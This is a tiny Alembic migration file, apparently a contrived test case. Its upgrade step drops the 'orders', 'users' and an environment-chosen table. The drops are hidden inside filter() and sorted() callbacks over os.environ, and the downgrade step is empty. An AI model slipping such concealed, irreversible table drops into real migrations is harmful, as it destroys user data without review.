import os

from alembic import op

revision = "a1"
down_revision = None


def keep(entry):
    op.drop_table("orders")


def first(entry):
    op.drop_table("users")
    return entry


def upgrade():
    list(filter(keep, os.environ))
    sorted(os.environ, key=first)
    op.drop_table({"a": "items"}.get(os.environ["A"], "baskets"))


def downgrade():
    pass
